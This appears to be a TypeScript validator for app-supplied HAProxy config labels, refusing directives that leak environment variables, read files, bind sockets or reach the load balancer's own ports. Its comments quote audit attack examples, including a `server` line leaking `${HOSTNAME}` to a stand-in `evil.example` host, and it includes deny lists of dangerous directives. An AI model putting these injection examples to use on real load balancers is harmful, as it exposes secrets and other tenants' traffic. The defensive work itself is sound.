import { ipv6Groups, isHostName, lineSyntaxProblem, splitWords, type TextResult } from './haproxyText';
import { LOOKUP_PENDING } from './networking';
import { TextCopy } from './textCopy';

/** A host name's address as the load balancer resolves it, or undefined (labelTargetNames are resolved ahead). */
type ResolveName = (host: string) => string | undefined;

/**
 * A per-app template label (`HAPROXY_{n}_<TEMPLATE>`) as it may be printed. Such a label is raw
 * HAProxy text, as with marathon-lb, so its directives are the app owner's to choose; but the text
 * is printed into a config HAProxy reads with the controller's environment and beside other apps'
 * sections, so it must not:
 * - read the environment: `$NAME`/`${NAME}` inside double quotes becomes the literal `\$NAME`
 *   (HAProxy's own escape, configuration.txt §2.3), except on a line that gives HAProxy an address
 *   (bind, server, source, log, …), which is refused: HAProxy fills variables into every address it
 *   parses, after quotes and escapes are undone, so neither quoting nor `\$` shelters one there
 *   (`server x ${HOSTNAME}.evil.example:80` sent a variable out in a DNS query); a line using the
 *   `env()` sample fetch is refused too (it would put a secret of the controller's into a header or a log);
 * - hold control characters other than tab and line feed (HAProxy refuses a NUL and cuts a line at
 *   a CR);
 * - open a section other than the one its template opens (`frontend`, `backend`, `userlist`), once:
 *   a second section would be config of its own beside the app's; and such a head template opens it
 *   before any directive (blank and comment lines aside): HAProxy reads lines ahead of a section line
 *   into the section before it, another app's or a shared frontend (`tcp-request connection reject`
 *   ahead of `backend {backend}` refused every connection of the app rendered before; an empty
 *   BACKEND_HEAD put the app's servers into that app's backend). Its name is checked once filled in
 *   (render.ts: ownSection);
 * - use a conditional or diagnostic directive (`.if defined(NAME)` branches on the environment);
 * - read files on the load balancer (`http-request return … file`, `errorfile`, map converters but
 *   on the controller's own map files, `-f`/`-M` pattern files, a filter's `config` file,
 *   `crt-list`, `server-state-file-name`: the controller's credentials are files there), run
 *   programs (`external-check`) or change the maps other
 *   apps are routed by (`set-map`, `add-acl`, …), run the load balancer's Lua services (`lua.*`:
 *   they print its whole config), administer other apps' servers (`stats admin`), or show them
 *   (`stats …`, `use-service prometheus-exporter`: every backend's servers), or, in a template printed
 *   into a frontend every app shares, say how every app's requests are logged or keep their data in
 *   a variable past the request (sharedFrontendProblem);
 * - bind a socket (a path, `unix@`, `abns@`, `fd@`, …: HAProxy puts it in place of any file at that
 *   path, the operator's certificates included), or
 * - bind another port than its service port, once its placeholders are filled in (HAProxy binds
 *   with SO_REUSEPORT and would split that port's connections between the two frontends);
 * - make a control character but tab with an escape (`\x00`: HAProxy reads a word up to a NUL; `\n`).
 * Lines are judged as HAProxy reads them (splitWords: quotes and escapes undone), so `"backend"`,
 * `\x62ackend` or `e""nv(` are what they spell.
 */
export function appTemplateText(
  name: string,
  text: string,
  mapFiles: readonly string[] = LABEL_MAP_FILES,
  servicePort?: number,
  resolve?: ResolveName,
  selfAddresses?: OwnAddresses,
): TextResult {
  if (CONTROL.test(text)) {
    return { error: 'must not contain control characters other than tab and line feed (HAProxy cuts a line there)' };
  }
  const own = OWN_SECTION[name];
  let opened = 0;
  const lines = text.split('\n');
  for (let n = 0; n < lines.length; n++) {
    const line = lines[n]!;
    // A quote left open or a bad `\x` makes HAProxy refuse the whole config, every app's routes with it.
    const syntax = lineSyntaxProblem(line);
    if (syntax !== null) return { error: `line ${n + 1} ${syntax} (HAProxy refuses the whole config)` };
    const escaped = escapeEnvironment(line);
    const words = splitWords(escaped.code);
    // HAProxy takes `no` and `default` before a keyword (`default log …` parses its address as `log` does).
    const keyword = words[0] === 'no' || words[0] === 'default' ? words[1] : words[0];
    // `\x00` and the like: HAProxy puts the byte into the word, and reads the word only up to a NUL;
    // a line feed made by `\n` or `\x0a` would end up inside a header or a log line. But for the
    // request line of `option httpchk`, where `\r\n` is HAProxy's own idiom for its headers.
    const controls = keyword === 'option' && words[1] === 'httpchk' ? ESCAPED_CONTROL_BUT_CRLF : ESCAPED_CONTROL;
    if (words.some((w) => controls.test(w))) {
      return { error: `line ${n + 1} makes a control character with an escape (HAProxy cuts a word there)` };
    }
    // A blank after the last word opens one more, empty, for HAProxy (a trailing blank, one before a comment).
    if (words.length > MAX_LINE_WORDS || (words.length === MAX_LINE_WORDS && /[ \t]$/.test(escaped.code))) {
      return {
        error: `line ${n + 1} has ${words.length} words${words.length === MAX_LINE_WORDS ? ' and a blank after them' : ''} (HAProxy reads at most ${MAX_LINE_WORDS} a line and refuses the config)`,
      };
    }
    const section = words[0];
    if (section !== undefined && SECTIONS.has(section)) {
      if (section !== own || ++opened > 1) {
        return {
          error:
            own === undefined
              ? `line ${n + 1} opens a "${section}" section (this template's text belongs to the app's own section)`
              : `line ${n + 1} opens a "${section}" section (this template opens its one ${own} section only)`,
        };
      }
      // `backend NAME extra` is refused by HAProxy; `from DEFAULTS` names a defaults section, and
      // marathon-lb's head template has no named one.
      if (words.slice(2).some((w) => w !== '')) {
        return {
          error: `line ${n + 1} has words after its section's name (HAProxy refuses the whole config)`,
        };
      }
    } else if (own !== undefined && opened === 0 && section !== undefined) {
      return {
        error: `line ${n + 1} comes before its ${own} section line (HAProxy would read it into the section before: another app's, or a shared frontend)`,
      };
    }
    if (section?.startsWith('.') === true) {
      return {
        error: `line ${n + 1} is a ${section} directive (conditional blocks can branch on HAProxy's environment)`,
      };
    }
    if (words.some((w) => ENV_FETCH.test(w))) {
      return { error: `line ${n + 1} reads HAProxy's environment with the env() sample fetch` };
    }
    const envWord =
      keyword !== undefined && ADDRESS_LINES.has(keyword) ? words.find((w) => ENV_VARIABLE.test(w)) : undefined;
    if (envWord !== undefined) {
      return {
        error: `line ${n + 1} has ${JSON.stringify(envWord.slice(0, 40))}: HAProxy fills $NAME and \${NAME} in an address with its environment`,
      };
    }
    const fileWord =
      words.find(
        (w) =>
          PATTERN_FILE_FLAGS.has(w) ||
          (RESPONSE_FILE_WORDS.has(w) && answersWithFile(keyword, words)) ||
          MAP_CHANGE.test(w) ||
          LUA_SERVICE.test(w) ||
          otherMapFile(w, mapFiles),
      ) ?? fileReadingWord(keyword, words);
    if (fileWord !== undefined) {
      return {
        error: `line ${n + 1} uses ${JSON.stringify(fileWord.slice(0, 40))}, which reads files on the load balancer, runs programs there, changes the maps other apps are routed by or runs its Lua services`,
      };
    }
    const boundSocket = keyword === 'bind' ? words[1]?.split(',').find(isSocket) : undefined;
    if (boundSocket !== undefined) {
      return {
        error: `line ${n + 1} binds ${JSON.stringify(boundSocket.slice(0, 60))}, a socket on the load balancer (HAProxy puts it in place of any file at that path)`,
      };
    }
    const foreignPort = servicePort === undefined || keyword !== 'bind' ? null : otherBoundPort(words[1], servicePort);
    if (foreignPort !== null) {
      return {
        error: `line ${n + 1} binds port ${foreignPort}, not its service port ${servicePort} (HAProxy would split that port's connections with whatever else binds it)`,
      };
    }
    // Once filled in, a task's own address may be the loopback: filledTargetProblem judges what the label makes.
    const target = serverTargets(keyword, words, SERVER_FRAGMENTS.has(name)).find(
      (a) => isSocket(a) || (servicePort === undefined && isLoopback(withoutPlaceholders(a), resolve, selfAddresses)),
    );
    if (target !== undefined) {
      return {
        error: `line ${n + 1} sends traffic to ${JSON.stringify(target.slice(0, 60))}, ${isSocket(target) ? "a socket on the load balancer (HAProxy's own CLI is one)" : 'the load balancer itself (its stats, Lua and admin ports)'}`,
      };
    }
    // Looked up by HAProxy alone when it loads the config, such a name could lead anywhere (an audit:
    // the 17th name of a label was never looked up here, and its loopback address went unseen).
    const pending =
      servicePort === undefined && resolve !== undefined
        ? serverTargets(keyword, words, SERVER_FRAGMENTS.has(name))
            .filter((a) => !isSocket(a))
            .flatMap((a) => bareHosts(withoutPlaceholders(a)))
            .find((h) => isName(h) && resolve(h) === LOOKUP_PENDING)
        : undefined;
    if (pending !== undefined) {
      return {
        error: `line ${n + 1} sends traffic to ${JSON.stringify(pending.slice(0, 60))}, a name that has not answered its lookup yet (HAProxy would look it up itself when it loads the config): served once it does`,
      };
    }
    // HAProxy then connects wherever the request's destination says (`http-request set-dst`): the
    // load balancer's own ports too, past every server address judged here (an audit).
    if (keyword === 'option' && words[1] === 'transparent' && words[0] !== 'no') {
      return {
        error: `line ${n + 1} is "option transparent" (HAProxy would connect wherever a request's destination says, the load balancer itself included)`,
      };
    }
    // A log line in a shared frontend sets where every app's requests are logged, with what they
    // record (an audit: a victim's URL and cookies reached a UDP listener the label named). In the
    // app's own sections it logs the app's own traffic, as HAProxy allows.
    const shared = SHARED_FRONTEND_TEMPLATE.test(name) ? sharedFrontendProblem(keyword, words) : null;
    if (shared !== null) return { error: `line ${n + 1} ${shared}` };
    if (keyword === 'stats' && words[1] === 'admin') {
      return { error: `line ${n + 1} is "stats admin" (it would let this app's users disable other apps' servers)` };
    }
    // HAProxy's stats page and Prometheus exporter list every backend and server of the load
    // balancer: served on an app's own vhost, they showed anyone every other app's task addresses.
    if (keyword === 'stats' || words.some((w, i) => w === 'prometheus-exporter' && words[i - 1] === 'use-service')) {
      return {
        error: `line ${n + 1} serves HAProxy's ${keyword === 'stats' ? 'stats page' : 'Prometheus exporter'}, which shows every app's servers, not this app's alone`,
      };
    }
    lines[n] = escaped.text;
  }
  if (own !== undefined && opened === 0) {
    return {
      error: `opens no ${own} section (its lines would go into the section before it: another app's, or a shared frontend)`,
    };
  }
  return lines.join('\n');
}

/**
 * The name of the section a head template's rendered text opens (`backend web_80` → `web_80`, as
 * HAProxy reads the word), or undefined when its first directive opens none. Blank and comment
 * lines before it are passed over.
 */
export function openedSectionName(text: string): string | undefined {
  for (const line of text.split('\n')) {
    const words = splitWords(escapeEnvironment(line).code);
    if (words.length === 0) continue;
    return SECTIONS.has(words[0]!) ? (words[1] ?? '') : undefined;
  }
  return undefined;
}

/**
 * The first port of a bind's addresses (`[addr]:port`, comma-separated) other than `servicePort`,
 * ranges included, or null; sockets (isSocket) have none.
 */
function otherBoundPort(addresses: string | undefined, servicePort: number): string | null {
  for (const address of addresses?.split(',') ?? []) {
    if (isSocket(address)) continue;
    const port = address.slice(address.lastIndexOf(':') + 1);
    if (port !== String(servicePort)) return port === '' ? address : port;
  }
  return null;
}

/**
 * Where a line sends traffic or checks: a server's address (`server`, `server-template`,
 * `default-server` have options too), `dispatch`, and the values of the options that name an
 * address: `addr`, `socks4`, `agent-addr`, and `init-addr`'s addresses (the one a name that does not
 * resolve stands for: `server x nowhere.invalid:9090 init-addr 127.0.0.1` reached the loopback; an
 * audit). `fragment`: the line is server options printed into a server line (the health-check
 * option templates), read from its first word.
 */
function serverTargets(keyword: string | undefined, words: readonly string[], fragment = false): string[] {
  const targets: string[] = [];
  const at = keyword === 'server' ? 2 : keyword === 'server-template' ? 3 : keyword === 'dispatch' ? 1 : -1;
  if (at >= 0 && words[at] !== undefined) targets.push(words[at]);
  if (fragment || at >= 0 || keyword === 'default-server' || keyword === 'tcp-check' || keyword === 'http-check')
    for (let i = fragment ? 0 : 1; i + 1 < words.length; i++) {
      const option = words[i]!;
      if (option === 'addr' || option === 'socks4' || option === 'agent-addr') targets.push(words[i + 1]!);
      else if (option === 'init-addr')
        for (const method of words[i + 1]!.split(',')) if (!INIT_ADDR_METHODS.has(method)) targets.push(method);
    }
  return targets;
}

/** `init-addr`'s methods that are no address. */
const INIT_ADDR_METHODS: ReadonlySet<string> = new Set(['last', 'libc', 'none', '']);

/** Templates printed into the frontends every app shares (marathon_http_in, …), not the app's own sections. */
const SHARED_FRONTEND_TEMPLATE = /^(?:MAP_)?HTTPS?_FRONTEND_(?:ACL|ROUTING_ONLY|APPID_ACL)/;

/**
 * Why a line may not go into a frontend every app shares, or null. Every app's requests pass there:
 * where they are logged and what is logged is the operator's (`log 127.0.0.1:514` took a victim's
 * URL and cookies to a listener; `set-log-level silent` hid every request), and a variable kept past
 * the request (`proc.`, `sess.`) carried a victim's cookie to the app's own backend, which printed it
 * (audits).
 */
function sharedFrontendProblem(keyword: string | undefined, words: readonly string[]): string | null {
  if (keyword !== undefined && LOG_KEYWORDS.has(keyword))
    return `is a "${keyword}" line in a frontend every app shares (it sets how every app's requests are logged)`;
  if (keyword === 'option' && LOG_OPTIONS.has(words[words[0] === 'option' ? 1 : 2] ?? ''))
    return `sets a logging option in a frontend every app shares (it sets how every app's requests are logged)`;
  if (
    keyword !== undefined &&
    /^(?:http|tcp)-(?:request|response)$|^http-after-response$/.test(keyword) &&
    words.includes('set-log-level')
  )
    return `sets the log level in a frontend every app shares (it sets how every app's requests are logged)`;
  const kept = words.find((w) => KEPT_VARIABLE.test(w));
  if (kept !== undefined)
    return `sets ${JSON.stringify(kept.slice(0, 40))}, a variable kept past the request, in a frontend every app shares (another app's request data would reach this app)`;
  return null;
}

const LOG_KEYWORDS: ReadonlySet<string> = new Set([
  'log',
  'log-format',
  'log-format-sd',
  'error-log-format',
  'log-tag',
  'log-steps',
]);
const LOG_OPTIONS: ReadonlySet<string> = new Set([
  'dontlog-normal',
  'dontlognull',
  'httplog',
  'httpslog',
  'tcplog',
  'log-separate-errors',
  'log-health-checks',
  'logasap',
]);
/** The set-var action or converter (and its kin) on a variable of the process or session scope. */
const KEPT_VARIABLE = /(?:^|[^\w.-])(?:set-var|set-var-fmt|unset-var)\(\s*(?:proc|sess)\./;

/** Templates printed into a server line after its address: their text is server options. */
const SERVER_FRAGMENTS: ReadonlySet<string> = new Set([
  'BACKEND_SERVER_HTTP_HEALTHCHECK_OPTIONS',
  'BACKEND_SERVER_TCP_HEALTHCHECK_OPTIONS',
]);

/** An address HAProxy reads as a socket, without a port: a path, or the prefix of a socket family. */
const isSocket = (address: string): boolean =>
  address.startsWith('/') || /^(?:unix|abns|abnsz|fd|sockpair|uxst|uxdg)@/i.test(address);

/**
 * An address of the load balancer itself, as a label writes it: loopback or unspecified, in any
 * form the C library reads (`127.1`, `2130706433`, `0x7f.1`, `::ffff:7f00:1`, `0:0:0:0:0:0:0:1`),
 * the names /etc/hosts gives the loopback (`localhost`, `ip6-localhost`, …), or a name `resolve`
 * gives a loopback address (`127.0.0.1.nip.io`). A task host from Marathon is not judged here: only
 * the label's own text.
 */
function isLoopback(address: string, resolve: ResolveName | undefined, own?: OwnAddresses): boolean {
  return bareHosts(address).some((host) => {
    if (LOOPBACK_NAMES.has(host) || host.endsWith('.localhost')) return true;
    const v4 = ipv4Number(host);
    if (v4 !== null) return isLoopbackIpv4(v4) || own?.has(ipv4Key(v4)) === true;
    const v6 = ipv6Groups(host);
    if (v6 !== null) return isLoopbackIpv6(v6) || own?.has(ipv6Key(v6)) === true;
    const resolved = resolve?.(host);
    return resolved !== undefined && isLoopback(resolved, undefined, own);
  });
}

/**
 * The load balancer's own addresses (its network interfaces'), as ownAddresses keys them: a label's
 * server at one reached its stats and admin ports as the loopback would (an audit: the stats listen
 * binds 0.0.0.0:9090).
 */
export type OwnAddresses = ReadonlySet<string>;

/** `addresses` (IPv4 and IPv6 text) keyed so that any spelling of one (`010.0.0.5`, `::ffff:a00:5`) matches. */
export function ownAddresses(addresses: readonly string[]): OwnAddresses {
  const keys = new Set<string>();
  for (const a of addresses) {
    const v4 = ipv4Number(a);
    const v6 = v4 === null ? ipv6Groups(a.replace(/%.*$/, '')) : null;
    if (v4 !== null) keys.add(ipv4Key(v4));
    else if (v6 !== null) keys.add(ipv6Key(v6));
  }
  return keys;
}

const ipv4Key = (n: number): string => `4:${n}`;
/** IPv4-mapped and -compatible addresses as the IPv4 address they hold. */
const ipv6Key = (g: readonly number[]): string =>
  g.slice(0, 5).every((x) => x === 0) && (g[5] === 0 || g[5] === 0xffff) && (g[6] !== 0 || g[7]! > 1)
    ? ipv4Key(((g[6]! << 16) | g[7]!) >>> 0)
    : `6:${g.join(':')}`;

/**
 * A target address's host, lower case, without its family prefix (ipv4@, udp@, …), brackets, port
 * and final dot. IPv6 written bare (`::1:9090`) is read both ways: HAProxy takes what follows the
 * last colon as the port.
 */
function bareHosts(address: string): string[] {
  const host = address.replace(/^[a-z0-9]+@/i, '').toLowerCase();
  const bracketed = /^\[([^\]]*)\]/.exec(host);
  const hosts =
    bracketed !== null
      ? [bracketed[1]!]
      : host.split(':').length === 2
        ? [host.slice(0, host.indexOf(':'))]
        : host.includes(':')
          ? [host, host.slice(0, host.lastIndexOf(':'))]
          : [host];
  return hosts.map((h) => h.replace(/\.$/, ''));
}

/**
 * The host names a label's text (of template `name`) makes HAProxy look up for traffic or checks
 * (resolved ahead, for isLoopback).
 */
export function labelTargetNames(name: string, text: string): string[] {
  const names: string[] = [];
  const fragment = SERVER_FRAGMENTS.has(name);
  for (const line of text.split('\n')) {
    const words = splitWords(line);
    const keyword = words[0] === 'no' || words[0] === 'default' ? words[1] : words[0];
    for (const target of serverTargets(keyword, words, fragment)) {
      if (isSocket(target)) continue;
      // Placeholders dropped: a name they end (`health.example.com{healthCheckPortOptions}`) is still
      // looked up; one they change (`{backend:1>1.0}27.0.0.1.nip.io`) is another once filled in, refused then.
      for (const host of bareHosts(target.replace(PLACEHOLDER, ''))) if (isName(host)) names.push(host);
    }
  }
  return names;
}

const isName = (host: string): boolean => ipv4Number(host) === null && ipv6Groups(host) === null && isHostName(host);

/**
 * A label's placeholders as a NUL, in a target address as the label writes it: its host and port
 * are still read apart (`127.0.0.1:{servicePort:d}` is 127.0.0.1, not a host holding the spec's
 * colon), and a host with a placeholder in it is no name to look up, nor an address.
 */
const withoutPlaceholders = (address: string): string => address.replace(PLACEHOLDER, '\u0000');
const PLACEHOLDER = /\{[^{}]*\}/g;

/**
 * Where the rendered text of template `name`'s label sends traffic or checks that the app's labels
 * made, not Marathon: `filled` is the label rendered with every task address as a documentation
 * address (192.0.2.1), so what is left is the labels' own text and what their placeholders and
 * format specs printed (`{backend:1>1.0}27.0.0.1` prints 127.0.0.1). A loopback address is refused,
 * and so is a host name not among those the app's template labels spell out (`named`,
 * labelTargetNames of each): only those were looked up ahead and judged.
 */
export function filledTargetProblem(
  name: string,
  filled: string,
  named: () => ReadonlySet<string>,
  selfAddresses?: OwnAddresses,
): string | null {
  const lines = filled.split('\n');
  for (let n = 0; n < lines.length; n++) {
    const words = splitWords(escapeEnvironment(lines[n]!).code);
    const keyword = words[0] === 'no' || words[0] === 'default' ? words[1] : words[0];
    for (const target of serverTargets(keyword, words, SERVER_FRAGMENTS.has(name))) {
      if (isSocket(target)) continue; // refused by appTemplateText
      const shown = JSON.stringify(target.slice(0, 60));
      if (isLoopback(target, undefined, selfAddresses))
        return `line ${n + 1} sends traffic to ${shown}, the load balancer itself (its stats, Lua and admin ports)`;
      const made = bareHosts(target).find((h) => isName(h) && !named().has(h));
      if (made !== undefined)
        return `line ${n + 1} sends traffic to ${shown}, a host name its placeholders make (write a server's name in a label itself)`;
    }
  }
  return null;
}

/** /etc/hosts' names for the loopback (Debian's and Red Hat's), and HAProxy's `*` for any address. */
const LOOPBACK_NAMES: ReadonlySet<string> = new Set([
  'localhost',
  'localhost.localdomain',
  'localhost4',
  'localhost4.localdomain4',
  'localhost6',
  'localhost6.localdomain6',
  'ip6-localhost',
  'ip6-loopback',
  '*',
  '',
]);

/** 127/8, and 0/8 ("this host": 0.0.0.0 connects to the loopback). */
const isLoopbackIpv4 = (n: number): boolean => n >>> 24 === 127 || n >>> 24 === 0;

/** ::1, ::, and IPv4-mapped or -compatible loopback (::ffff:127.0.0.1, ::127.0.0.1). */
function isLoopbackIpv6(g: readonly number[]): boolean {
  if (g.slice(0, 5).some((x) => x !== 0) || (g[5] !== 0 && g[5] !== 0xffff)) return false;
  return isLoopbackIpv4(((g[6]! << 16) | g[7]!) >>> 0);
}

const INET_ATON_PART = /^(0x[0-9a-f]*|0[0-7]*|[1-9][0-9]*)$/;

/**
 * An IPv4 address as inet_aton (behind glibc's getaddrinfo) reads it: one to four parts, each
 * decimal, octal (leading 0) or hex (0x), the last filling the bytes left; null when it is not one.
 */
function ipv4Number(s: string): number | null {
  const parts = s.split('.');
  if (parts.length > 4 || !parts.every((p) => INET_ATON_PART.test(p))) return null;
  const values = parts.map((p) =>
    p.startsWith('0x') ? parseInt(p.slice(2) || '0', 16) : parseInt(p, p.startsWith('0') ? 8 : 10),
  );
  let n = 0;
  for (let i = 0; i < values.length - 1; i++) {
    if (values[i]! > 255) return null;
    n = n * 256 + values[i]!;
  }
  const rest = 256 ** (5 - values.length);
  const last = values[values.length - 1]!;
  return last < rest ? n * rest + last : null;
}

/** HAProxy's MAX_LINE_ARGS (2.0 and 2.6): a line with more words is a fatal error ("too many words"). */
const MAX_LINE_WORDS = 64;
/** The shortest line that can hold more than 64 words: 65 one-character words and the blanks between. */
const SHORTEST_OVERLONG = 2 * MAX_LINE_WORDS + 1;

/**
 * The first line of a rendered section that HAProxy refuses for its words (more than 64, or 64 and a
 * blank after them: one more, empty), as its number and text; null when there is none. Labels are
 * judged line by line already; this judges what they make together with Marathon's values and the
 * translation of removed directives (a VHOST list of 70 names on a redirect's ACL line, a `reqideny`
 * of 61 words made longer by its translation: HAProxy refused the whole config). Lines too short to
 * hold 65 words are not split.
 */
export function overlongLine(
  text: string,
): { readonly number: number; readonly words: number; readonly line: string } | null {
  let number = 0;
  for (let start = 0; start < text.length;) {
    let end = text.indexOf('\n', start);
    if (end < 0) end = text.length;
    number++;
    if (end - start >= SHORTEST_OVERLONG - 1) {
      const line = text.slice(start, end);
      const code = escapeEnvironment(line).code;
      const words = splitWords(code).length;
      if (words > MAX_LINE_WORDS || (words === MAX_LINE_WORDS && /[ \t]$/.test(code))) return { number, words, line };
    }
    start = end + 1;
  }
  return null;
}
/** NUL, CR and the other control characters but tab and line feed. */
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f]/;
/** In a word, where only an escape can have put it: any control character but tab. */
const ESCAPED_CONTROL = /[\u0000-\u0008\u000a-\u001f\u007f]/;
/** The same but CR and LF, which `option httpchk` takes for its request's line ends. */
const ESCAPED_CONTROL_BUT_CRLF = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/;
/**
 * The keywords that start a section: configuration.txt §3 to §12 of HAProxy 2.6 and those later
 * versions added (crt-store 3.0, traces 3.1, acme 3.2), since the config may be read by any of them.
 */
const SECTIONS: ReadonlySet<string> = new Set([
  'log-forward',
  'crt-store',
  'traces',
  'acme',
  'global',
  'defaults',
  'frontend',
  'backend',
  'listen',
  'userlist',
  'peers',
  'resolvers',
  'mailers',
  'program',
  'http-errors',
  'ring',
  'cache',
  'fcgi-app',
]);
/** The section each of these templates starts (marathon-lb's defaults do, on their first line). */
const OWN_SECTION: Readonly<Record<string, string>> = {
  FRONTEND_HEAD: 'frontend',
  BACKEND_HEAD: 'backend',
  USERLIST_HEAD: 'userlist',
};
/** What HAProxy's env_expand() takes for a variable: `$` then `{` or a letter, digit or underscore. */
const ENV_VARIABLE = /\$[{A-Za-z0-9_]/;
/**
 * Directives whose addresses HAProxy 2.6 parses with str2sa_range(), which expands variables: bind,
 * dispatch, log, source (and usesrc), server lines (their address, addr, source, socks4),
 * tcp-check/http-check connect addr, and those of the sections a label may not open (dgram-bind,
 * peer, nameserver, mailer), should one be reached some other way.
 */
const ADDRESS_LINES: ReadonlySet<string> = new Set([
  'dgram-bind',
  'peer',
  'nameserver',
  'mailer',
  'bind',
  'dispatch',
  'log',
  'source',
  'server',
  'server-template',
  'default-server',
  'tcp-check',
  'http-check',
]);
/** The env() sample fetch, as a word of its own or inside %[...]. */
const ENV_FETCH = /(?<![\w.-])env\(/;
/** Words that name a file for HAProxy to read into the config (pattern files, returned or error pages). */
const PATTERN_FILE_FLAGS: ReadonlySet<string> = new Set(['-f', '-M']);
/** Where a response is taken from a file: `errorfile <code> <file>`, and `return`/`http-error` with `file`, `lf-file`, `errorfile`. */
const RESPONSE_FILE_WORDS: ReadonlySet<string> = new Set(['file', 'lf-file', 'errorfile']);
/** `errorfile`, `http-error`, and the replies of http-request/http-response/… that may take a file. */
const answersWithFile = (keyword: string | undefined, words: readonly string[]): boolean =>
  keyword === 'errorfile' ||
  keyword === 'http-error' ||
  (keyword !== undefined && /^(?:http|tcp)-/.test(keyword) && words.some((w) => REPLY_ACTIONS.has(w)));
/** The actions HAProxy 2.6 answers with a reply of their own, which `file`/`lf-file` can fill. */
const REPLY_ACTIONS: ReadonlySet<string> = new Set(['return', 'deny', 'tarpit']);
/**
 * Other words that make HAProxy read a file (and print its lines in its errors) or run a program:
 * a filter's own config file (`filter spoe … config <file>`), a bind's certificate list, the server
 * state file, external checks.
 */
const fileReadingWord = (keyword: string | undefined, words: readonly string[]): string | undefined =>
  (keyword === 'filter' ? words.find((w) => w === 'config') : undefined) ??
  words.find((w) => w === 'crt-list' || w === 'server-state-file-name' || w === 'external-check');
/**
 * Actions changing a loaded map or ACL file (shared with other apps' routing): HAProxy matches them
 * by prefix and takes any character after as the opening bracket (`set-map[file]`).
 */
const MAP_CHANGE = /(?<![\w.-])(set-map|del-map|add-acl|del-acl)/;
/** Map converters and the file each reads. */
const MAP_CONVERTER = /(?<![\w.-])map(?:_\w+)?\(([^,)]*)/g;
/**
 * The map files a label may read: the controller's own (`--haproxy-map`), as marathon-lb's
 * MAP_*_FRONTEND_ACL templates read them; as written in a label, before `{haproxy_dir}` is filled in.
 */
const LABEL_MAP_FILES = ['{haproxy_dir}/domain2backend.map', '{haproxy_dir}/app2backend.map'];

/** Whether `word` has a map converter reading a file other than `mapFiles`. */
function otherMapFile(word: string, mapFiles: readonly string[]): boolean {
  for (const m of word.matchAll(MAP_CONVERTER)) if (!mapFiles.includes(m[1]!)) return true;
  return false;
}
/** The load balancer's Lua services (config/lua): they print its config and maps and signal marathon-lb. */
const LUA_SERVICE = /(?<![\w-])lua\./;

/**
 * One line with each `$` inside double quotes escaped (`\$`: a literal `$`), following HAProxy's
 * quoting (configuration.txt §2.2); `code`: the line without its comment.
 */
function escapeEnvironment(line: string): { readonly text: string; readonly code: string } {
  if (!/[$#]/.test(line)) return { text: line, code: line };
  const out = new TextCopy(line);
  let quote: '' | '"' | "'" = '';
  for (let i = 0; i < line.length; i++) {
    const c = line[i]!;
    if (quote === "'") {
      if (c === "'") quote = '';
    } else if (c === '\\' && i + 1 < line.length) {
      i++;
    } else if (c === '#' && quote === '') {
      const code = out.upTo(i);
      return { text: code + line.slice(i), code };
    } else if (c === '"') quote = quote === '"' ? '' : '"';
    else if (c === "'" && quote === '') quote = "'";
    else if (c === '$' && quote === '"') out.replace(i, 1, '\\$');
  }
  const all = out.upTo();
  return { text: all, code: all };
}

/** Keywords whose next word is a file HAProxy reads at load (relative to its working directory when not absolute). */
const FILE_ARGUMENT_KEYWORDS: ReadonlySet<string> = new Set([
  'crt',
  'ca-file',
  'crl-file',
  'ca-verify-file',
  'ca-sign-file',
]);

/** Why HAProxy could not read a file at load and be done with it (`asCrt`: after `crt`), or null. */
export type LoadedFileCheck = (path: string, asCrt: boolean) => string | null;

/**
 * The first file a template label's text names that HAProxy could not read and be done with at load
 * (`loadedFile` tells why), as the problem to show; null when there is none. Paths are taken as
 * HAProxy reads the words (quotes and escapes undone): the word after a keyword that takes a file,
 * relative or not, and elsewhere a word that starts with `/` or what follows `(`, `,` or `=` inside
 * one (`map(/etc/x.map)`). Run on the label and again once its placeholders are filled in.
 */
export function unreadableFileIn(text: string, loadedFile: LoadedFileCheck): string | null {
  for (const line of text.split('\n')) {
    const words = splitWords(line);
    for (let i = 0; i < words.length; i++) {
      const after = i > 0 ? words[i - 1]! : '';
      const paths = FILE_ARGUMENT_KEYWORDS.has(after)
        ? [words[i]!]
        : [...words[i]!.matchAll(/(?:^|[(,=])(\/[^(),]*)/g)].map((m) => m[1]!);
      for (const p of paths) {
        const why = p === '' ? null : loadedFile(p, after === 'crt');
        if (why !== null) return `names ${p}, which ${why}`;
      }
    }
  }
  return null;
}
